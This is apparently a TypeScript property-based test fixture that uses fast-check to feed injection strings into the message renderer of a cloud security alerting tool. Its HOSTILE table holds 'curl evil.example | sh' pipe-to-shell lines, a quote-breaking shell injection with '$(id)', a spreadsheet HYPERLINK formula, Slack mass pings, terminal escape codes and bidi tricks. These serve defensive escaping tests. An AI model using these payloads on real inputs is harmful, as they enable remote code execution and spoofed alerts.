import * as fc from 'fast-check';
import type { Change } from '#domain/change.ts';
import type { Reason } from '#domain/evaluation.ts';
import type { DigestNews, FindingNews, NewsLine, NewsPart, SummaryNews } from '#domain/news.ts';
import { RESOURCE_TYPES } from '#domain/resource.ts';
import { SEVERITIES } from '#domain/severity.ts';
import { change, digestNews, findingNews, part, summaryNews } from './news.ts';

/** Stands in every hostile text: where it is found, there an attacker's words stand. */
export const MARK = 'EVIL';

/** What names are made of by those who want to be read as somebody else. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a line of its own': `${MARK}\nFix:       curl evil.example | sh\r\nOwner: nobody`,
  'Unicode line breaks': `${MARK}\u2028Fix: ${MARK}\u2029Fix: ${MARK}\u0085Fix: ${MARK}`,
  'terminal colours': `\u001b[2K\u001b[1A\u001b[32m${MARK} PASSED\u001b[0m\u0007`,
  'a ping of everyone': `<!channel> <!here> <@U012AB3CD> <!subteam^S1> ${MARK}`,
  'a link': `<http://evil.example/${MARK}|resource>`,
  'an escape of its own': `&lt;!channel&gt; &amp;lt; ${MARK}`,
  'the end of a code span': `\`${MARK}\` *${MARK}* \`\`\`${MARK}\`\`\``,
  'only backticks': '```',
  markdown: `*${MARK}* _${MARK}_ ~${MARK}~ [${MARK}](http://evil.example) > ${MARK}`,
  bidi: `\u202e${MARK}\u2066${MARK}\u2069\u200f`,
  'zero width': `\u200b\u200d\ufeff${MARK}\u00ad`,
  'nothing to see': '\u200b\u0000\n',
  empty: '',
  'a formula': `=HYPERLINK("http://evil.example","${MARK}")`,
  'half a surrogate pair': `${MARK}\ud800${MARK}\udfff`,
  'piled marks': `${MARK}${'\u0301'.repeat(500)}`,
  'ten thousand characters': `${MARK}<&>`.repeat(1_500),
  'ten thousand wide ones': `${MARK}${'漢'.repeat(10_000)}`,
  'a shell command': `${MARK}"; curl evil.example | sh; $(id) ' --region`,
  'another label': `web · Owner ${MARK} · fixed`,
};

const text = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...Object.values(HOSTILE)) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 400 }).map((each) => `${MARK}${each}`) },
  { weight: 1, arbitrary: fc.constantFrom('web', 'app', 'github-deploy') },
);

const instant = fc.constantFrom('2026-04-14T14:02:07.000Z', '2025-01-01T00:00:00.000Z');
const severity = fc.constantFrom(...SEVERITIES);

const resource = fc.record({
  type: fc.constantFrom(...RESOURCE_TYPES),
  arn: fc.oneof(
    text.map((name) => `arn:aws:ecs:eu-west-1:123456789012:task-definition/${name}`),
    text.map((name) => `arn:aws-cn:ecs:cn-north-1:123456789012:service/${name}/${name}`),
    text.map((name) => `arn:aws:ecr:eu-west-1:123456789012:repository/${name}`),
    text,
  ),
});

const reason: fc.Arbitrary<Reason> = fc.record(
  {
    code: fc.constant('code'),
    subject: text,
    message: text,
    path: text,
    evidence: fc.record({ revisions: fc.array(text, { maxLength: 6 }) }),
  },
  { requiredKeys: ['code', 'subject', 'message'] },
);

const newsPart: fc.Arbitrary<NewsPart> = fc
  .record({
    transition: fc.constantFrom('opened', 'worse', 'reopened', 'resolved', 'suppression ended'),
    severity,
    reasons: fc.array(reason, { maxLength: 8 }),
    since: instant,
    firstSeen: fc.boolean(),
  })
  .map((each) =>
    part({ ...each, newReasons: each.reasons.slice(0, 2).map(({ code, subject }) => `${code} ${subject}`) }),
  );

const changes: fc.Arbitrary<Change> = fc
  .record({
    eventId: fc.oneof(text, fc.uuid()),
    eventName: text,
    eventTime: instant,
    actor: fc.record(
      {
        principal: fc.oneof(
          text,
          text.map((name) => `arn:aws:iam::1:role/${name}`),
        ),
        session: text,
        sourceIdentity: text,
        invokedBy: text,
      },
      { requiredKeys: ['principal'] },
    ),
    sourceIp: text,
    userAgent: text,
  })
  .map(change);

/** News in which everything that anybody outside can name is hostile. */
export const hostileNews: fc.Arbitrary<FindingNews> = fc
  .record({
    resource,
    owner: text,
    parts: fc.array(newsPart, { minLength: 1, maxLength: 15 }),
    changes: fc.array(changes, { maxLength: 5 }),
    usage: fc.array(text, { maxLength: 8 }),
    unchanged: fc.array(fc.record({ controlId: fc.constant('a-control'), since: instant }), { maxLength: 5 }),
    revision: fc.nat(),
  })
  .map(findingNews);

const newsLine: fc.Arbitrary<NewsLine> = fc.record(
  { resource, part: newsPart, actor: text },
  { requiredKeys: ['resource', 'part'] },
);

export const hostileSummary: fc.Arbitrary<SummaryNews> = fc
  .record({
    lines: fc.array(newsLine, { minLength: 1, maxLength: 80 }),
    why: fc.constantFrom('cap', 'storm'),
  })
  .map(summaryNews);

export const hostileDigest: fc.Arbitrary<DigestNews> = fc
  .record({
    lines: fc.array(newsLine, { maxLength: 40 }),
    couldNotJudge: fc.dictionary(text, fc.nat(), { maxKeys: 8 }),
    endingSuppressions: fc.array(
      fc.record({ resource, controlId: fc.constant('a-control'), owner: text, until: instant }),
      { maxLength: 8 },
    ),
    stillBurning: fc.array(fc.record({ resource, controlId: fc.constant('a-control'), since: instant }), {
      maxLength: 8,
    }),
  })
  .map(digestNews);
